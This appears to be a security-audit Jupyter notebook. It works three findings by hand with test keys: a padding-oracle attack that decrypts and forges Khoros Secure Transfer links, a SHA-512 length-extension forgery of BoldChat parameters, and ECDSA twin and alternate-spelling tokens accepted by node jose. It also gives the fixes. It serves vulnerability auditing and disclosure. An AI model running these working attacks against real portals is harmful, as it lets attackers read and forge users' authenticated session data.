# ---
# jupyter:
#   handoff:
#     references:
#     - java
#     - node
#   jupytext:
#     notebook_metadata_filter: handoff,-jupytext.text_representation.jupytext_version
#     text_representation:
#       extension: .py
#       format_name: percent
#       format_version: '1.3'
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # The audit, byte by byte: ST-2, BOLD-1 and TALK-2
#
# `conformance audit` runs every *executable finding* against the live references and writes a report
# (`docs/audit.md`). Each finding is a proof: it either works against the vendor's own reference (**proved**), is
# tried and resisted (**refuted**), or could not be carried out here (**not_reproduced**, with why). This notebook
# opens three of them and does each attack by hand, one step at a time, with the same public functions the proofs
# use:
#
# * **ST-2**, Khoros Secure Transfer: a portal that tells bad padding from bad JSON is a padding oracle; with it,
#   anyone decrypts a transfer link and forges one (the vendor's Java answers every query);
# * **BOLD-1**, BoldChat SHA-512: `SHA-512(key ‖ data)` lets a visitor append parameters without the key, if the
#   server's conversion of text to bytes lets the glue through;
# * **TALK-2**, Talkative: the ECDSA twin `(r, n − s)` of a token is a second token that node `jose` accepts.
#
# Every key here is a TEST key.

# %%
import base64
import hashlib
import struct

from IPython.display import SVG, display

from conformance import registry
from conformance.audit import boldchat_sha512 as bold
from conformance.audit import khoros_secure_transfer as st
from conformance.audit import padding_oracle, sha512_extension, svg
from conformance.audit import talkative as talk
from conformance.audit.model import PROOFS, run_proof
from conformance.codecs import decode_base64
from conformance.vendors import talkative
from conformance.vendors.boldchat import secure_parameters_sha512
from conformance.vendors.khoros import DOCUMENT_PAYLOAD

vendor = registry.bridge("java")  # the vendor's Khoros Java beyond the contract's ops
for name in ("java", "node"):
    print(name, registry.shared(name).versions())

# %% [markdown]
# ## ST-2: the padding oracle in Khoros Secure Transfer
#
# Khoros sends the portal a link `?payload=…&iv=…`: the JSON context, AES-256-CBC with PKCS#5 padding, **no MAC**, the
# IV in the link. The document's `decryptPayload` first decrypts (`decryptString`, which throws on bad padding), then
# parses JSON (org.json, which throws on bad JSON), and logs the two failures differently. A portal that lets the two
# be told apart (an error page, a status code, a log-driven behaviour, or time) is a *padding oracle*.
#
# First, the link Khoros would send for the document's payload, made by the vendor's own Java with a TEST key:

# %%
key, iv_key = st.test_keys()
text = st.payload_text(DOCUMENT_PAYLOAD)
ciphertext = decode_base64(vendor.encrypt_link_payload(key, iv_key, text))
iv = decode_base64(iv_key)
print(f"{len(text)} bytes of JSON -> {len(ciphertext)} bytes of ciphertext ({len(ciphertext) // 16} blocks)")
print("IV      ", iv.hex(" "))
print("C1      ", ciphertext[:16].hex(" "))
print("P1      ", text[:16].encode().hex(" "), repr(text[:16]))

# %% [markdown]
# The oracle is the vendor's `decryptPayload` itself (through `dev.handoff.ref.PaddingOracleProbe`): `True` unless
# `decryptString` failed on padding. Decryption is `P = D_K(C) ⊕ IV`, and the IV is ours to choose. Send the
# single block `C1` with an IV of zeros except its last byte `x`: the padding checks out when the last byte of
# `D_K(C1) ⊕ IV` is `01`, i.e. for `x = D_K(C1)[15] ⊕ 01`.

# %%
oracle = vendor.VendorJavaOracle(key)
block = ciphertext[:16]
passing = [x for x in range(256) if oracle(bytes(15) + bytes([x]), block)]
print("IV last bytes whose padding checks out:", [hex(x) for x in passing], f"({oracle.queries} queries)")
x = passing[0]
d15 = x ^ 0x01
print(
    f"D_K(C1)[15] = {x:#04x} ^ 0x01 = {d15:#04x};  P1[15] = D_K(C1)[15] ^ IV[15] = {d15 ^ iv[15]:#04x}",
    repr(chr(d15 ^ iv[15])),
    "== text[15]:",
    repr(text[15]),
)

# %% [markdown]
# (When two values pass, the plaintext happened to end in `02 02` or longer; `padding_oracle.intermediate` rules that
# out with one more query.) The next byte wants padding `02 02`: set the last IV byte to `D[15] ⊕ 02` and search
# byte 14, and so on to byte 0. `padding_oracle.intermediate` does exactly this, counting the queries per byte:

# %%
decrypted_block, queries = padding_oracle.intermediate(oracle, block)
p1 = bytes(a ^ b for a, b in zip(decrypted_block, iv, strict=True))
print("D_K(C1)          ", decrypted_block.hex(" "))
print("P1 = D_K(C1) ^ IV", repr(p1.decode()))
print("queries per byte ", queries, "total", sum(queries))
assert p1 == text[:16].encode()

# %% [markdown]
# Every other block works the same way, with the previous ciphertext block in the role of the IV. The whole link,
# asking only the oracle:

# %%
plaintext, per_byte = padding_oracle.decrypt(oracle, iv, ciphertext)
assert plaintext == text.encode()
print(plaintext[:80].decode(), "...")
print(f"{sum(per_byte)} queries for {len(ciphertext)} bytes: {sum(per_byte) / len(ciphertext):.1f} per byte")
display(
    SVG(
        svg.columns(
            per_byte,
            title="ST-2: oracle queries per ciphertext byte",
            x_label="ciphertext byte",
            y_label="queries",
            reference=(128.5, "dashed: 128.5, the mean for a uniformly random byte"),
        )
    )
)

# %% [markdown]
# Knowing `D_K(C)` for any block also lets us *write*: pick any last block, learn its `D_K`, and choose the block
# before it so that the XOR gives the plaintext we want, walking backwards to the IV. The forged link carries the
# fields that link a chat to a conversation and an agent, and the vendor's `decryptPayload` accepts it:

# %%
forged_iv, forged_ciphertext, forge_queries = padding_oracle.forge(oracle, st.payload_text(st.FORGED_FIELDS).encode())
forged_iv_key, forged_payload = vendor.link_parameters(forged_iv, forged_ciphertext)
print(f"forged with {forge_queries} queries: ?payload={forged_payload}&iv={forged_iv_key}")
print("decryptPayload ->", vendor.decrypt_payload(forged_iv_key, forged_payload, key))

# %% [markdown]
# The proof `ST-2` (in `conformance.audit.khoros_secure_transfer`) does the same and also times the two failure
# paths inside the JVM. The fix: authenticate before decrypting (AES-GCM, or encrypt-then-MAC), so every tampered
# link fails the same way at the same point.
#
# ## BOLD-1: length extension on BoldChat's SHA-512 method
#
# The brand sends `SecureParameters = HEX(SHA-512(key ‖ data)) ‖ data`. SHA-512 processes 128-byte blocks and its
# digest *is* its state after the last one, so the visitor, who sees this string in the page, can load the digest as
# a state and keep hashing. What is hashed then is `key ‖ data ‖ glue ‖ appended`, where `glue` is the padding that
# SHA-512 put after `data`: `0x80`, zeros, and the length in bits. The visitor needs only the key's *length*.

# %%
original, appended, at_ms = bold.SCENARIOS["inject-field"]
genuine = secure_parameters_sha512(original, bold.TEST_HASHING_KEY)  # the brand's server, with the TEST key
print(genuine[:128])
print(genuine[128:])
state = struct.unpack(">8Q", bytes.fromhex(genuine[:128]))
print("the digest as SHA-512's eight state words:", [f"{w:016x}" for w in state[:2]], "...")

# %%
key_length = len(bold.TEST_HASHING_KEY.encode())  # the attacker tries 1, 2, 3, ... (below)
glue = sha512_extension.glue(key_length + len(original))
print(f"key ({key_length}) + data ({len(original)}) = {key_length + len(original)} bytes; glue = {len(glue)} bytes:")
print(glue.hex(" "))
forged_digest, glue_again = sha512_extension.extend(
    genuine[:128].lower(), key_length, original.encode(), appended.encode()
)
assert glue_again == glue
check = hashlib.sha512(bold.TEST_HASHING_KEY.encode() + original.encode() + glue + appended.encode()).hexdigest()
print("extended digest     ", forged_digest[:32], "...")
print("SHA-512 with the key", check[:32], "...", forged_digest == check)


# %% [markdown]
# Where the bytes fall: the key and the data fill the first 128-byte block (with the glue), and the appended
# parameters start a fresh block that the visitor hashes from the stolen state.

# %%
def layout(parts, width=760, scale=2.6):
    colours = {"key": "#d62728", "data": "#1f77b4", "glue": "#7f7f7f", "appended": "#2ca02c"}
    x, boxes = 10, []
    for label, size in parts:
        w = size * scale
        boxes.append(
            f'<rect x="{x:.1f}" y="30" width="{w:.1f}" height="34" fill="{colours[label]}" opacity="0.8"/>'
            f'<text x="{x + w / 2:.1f}" y="52" font-size="11" text-anchor="middle" fill="#fff">{label} ({size})</text>'
        )
        x += w
    lines = "".join(
        f'<line x1="{10 + b * 128 * scale:.1f}" x2="{10 + b * 128 * scale:.1f}" y1="22" y2="72" stroke="#000" '
        f'stroke-dasharray="4 2"/><text x="{12 + b * 128 * scale:.1f}" y="86" font-size="10">byte {b * 128}</text>'
        for b in range(0, int((x - 10) / scale / 128) + 1)
    )
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="96"><text x="10" y="16" font-size="12">'
        f"key ‖ data ‖ glue ‖ appended, in SHA-512 blocks of 128 bytes</text>{''.join(boxes)}{lines}</svg>"
    )


display(SVG(layout([("key", key_length), ("data", len(original)), ("glue", len(glue)), ("appended", len(appended))])))

# %% [markdown]
# The forged data is `original ‖ glue ‖ appended` and must reach the server as **text**, which the server turns
# back into bytes before hashing. Under UTF-8, no text encodes to the glue's lone `0x80` (a continuation byte with
# no lead byte), so the forgery cannot even be sent; the nearest texts a server could make of it all fail. Under
# Latin-1 (or a server hashing raw bytes) every byte is one character, and the validator model accepts:

# %%
forgery = bold.forge(genuine, appended, key_length)
print("as UTF-8 text:", forgery.text("utf-8"))
for label, text in bold.nearest_utf8_texts(forgery).items():
    print(
        f"  {label:20} ->",
        bold.model_launch(forgery.digest_hex + text, bold.TEST_HASHING_KEY, encoding="utf-8", at_ms=at_ms).reason,
    )
latin1 = bold.model_launch(forgery.secure_parameters("latin-1"), bold.TEST_HASHING_KEY, encoding="latin-1", at_ms=at_ms)
print("as Latin-1 text:", latin1.reason)
for name, value in latin1.parameters:
    print(f"  {name} = {value!r}")

# %% [markdown]
# The signed `VisitName` now ends in the glue's bytes, and `VisitEmail` and `DepartmentID` were never signed by the
# brand. The visitor does not know the key length, so they try each: one launch per guess.

# %%
for encoding in bold.ENCODINGS:
    found, sent, reasons = bold.search_key_length(
        genuine, appended, bold.TEST_HASHING_KEY, encoding=encoding, at_ms=at_ms
    )
    verdict = f"accepted at key length {found.key_length}" if found else "never accepted"
    print(f"{encoding:8} {verdict}; {sent} launches sent; {reasons}")
original2, appended2, at_ms2 = bold.SCENARIOS["extend-expiration"]
genuine2 = secure_parameters_sha512(original2, bold.TEST_HASHING_KEY)
late = bold.forge(genuine2, appended2, key_length).secure_parameters("latin-1")
print(
    "extending an expired launch (Latin-1):",
    bold.model_launch(late, bold.TEST_HASHING_KEY, encoding="latin-1", at_ms=at_ms2).reason,
)

# %% [markdown]
# The model refuses a repeated control field (here a second `Expiration`), so the expiry cannot be pushed back; a
# field the brand did not sign can be added. Under HMAC-SHA512 (what newer Bold360 documentation names, BOLD-3) the
# same trick does not verify at all:

# %%
mac = bold.hmac_secure_parameters(original, bold.TEST_HASHING_KEY)
print(
    bold.identify_construction(genuine, bold.TEST_HASHING_KEY), bold.identify_construction(mac, bold.TEST_HASHING_KEY)
)
hmac_forgery = bold.forge(mac, appended, key_length)
print(
    "extended HMAC string verifies as:",
    bold.identify_construction(hmac_forgery.digest_hex + hmac_forgery.text("latin-1"), bold.TEST_HASHING_KEY),
)

# %% [markdown]
# ## TALK-2: the ECDSA twin of a Talkative token
#
# An ES256 signature is a pair `(r, s)`, sent raw as 64 bytes. ECDSA verification accepts `(r, s)` and `(r, n − s)`
# alike (`n` is the order of the P-256 group): both are valid signatures of the same data. So from one token anyone
# can make a second, distinct token string that verifies to the same array.

# %%
token = talkative.sign_interaction_data(talk.FIELDS, talk.TEST_PRIVATE_KEY_PEM)
head, payload, signature = token.split(".")
print("header ", talk.decoded_header(token))
print("payload", base64.urlsafe_b64decode(payload + "==").decode())
r, s = talk.signature_values(token)
print(f"r     = {r:064x}\ns     = {s:064x}\nn - s = {talk.P256_ORDER - s:064x}")

# %%
other = talk.twin(token)
print(signature)
print(other.split(".")[2])
print("".join("^" if a != b else " " for a, b in zip(signature, other.split(".")[2], strict=True)))
assert other != token and talk.twin(other) == token


# %%
def signature_strip(first, second):
    a = base64.urlsafe_b64decode(first + "==")
    b = base64.urlsafe_b64decode(second + "==")
    cells = "".join(
        f'<rect x="{10 + i * 11}" y="24" width="10" height="20" fill="{"#2ca02c" if x == y else "#d62728"}"/>'
        for i, (x, y) in enumerate(zip(a, b, strict=True))
    )
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="720" height="64"><text x="10" y="16" font-size="12">'
        f"the 64 signature bytes: green = same in both tokens (r), red = different (s vs n - s)</text>{cells}"
        f'<text x="10" y="60" font-size="10">r (bytes 0-31)</text><text x="362" y="60" font-size="10">s (bytes 32-63)</text></svg>'
    )


display(SVG(signature_strip(signature, other.split(".")[2])))

# %% [markdown]
# Both go to node `jose` (`compactVerify` with `algorithms: ['ES256']`, the reference) and to the Python port:

# %%
original_answer, twin_answer = talk.jose_verify_many([token, other])
print("jose, token:", original_answer.describe())
print("jose, twin: ", twin_answer.describe())
print("port, twin: ", talk.port_verify(other).describe())
seen = {token}  # a replay cache keyed on the token text ...
print("twin in the cache?", other in seen, "-> let through")


def canonical(t):
    s = talk.signature_values(t)[1]
    return t.split(".")[1], min(s, talk.P256_ORDER - s)


print("keyed on (payload, low-S s) instead:", canonical(other) == canonical(token))

# %% [markdown]
# The twin forges nothing: it carries exactly what the brand signed. It matters where something keys on the token
# string (a replay cache, a one-time-use list, deduplication). Talkative has no replay protection at all (TALK-1), and
# jose on node 20 also accepts 15 other spellings of each signature (unused base64url trailing bits):

# %%
variants = talk.trailing_bit_variants(token)
print(sum(o.status == "value" for o in talk.jose_verify_many(variants)), "of", len(variants), "spellings accepted")

# %% [markdown]
# ## The registered proofs
#
# The same attacks as proofs, with their verdicts (ST-2's proof also measures timing, so it is left to
# `conformance audit`):

# %%
for finding_id in ("BOLD-1", "TALK-2"):
    finding = run_proof(PROOFS[finding_id])
    print(f"{finding.id}: {finding.status} ({finding.severity}) in {finding.seconds} s")
    print("  ", finding.why[:300], "...")
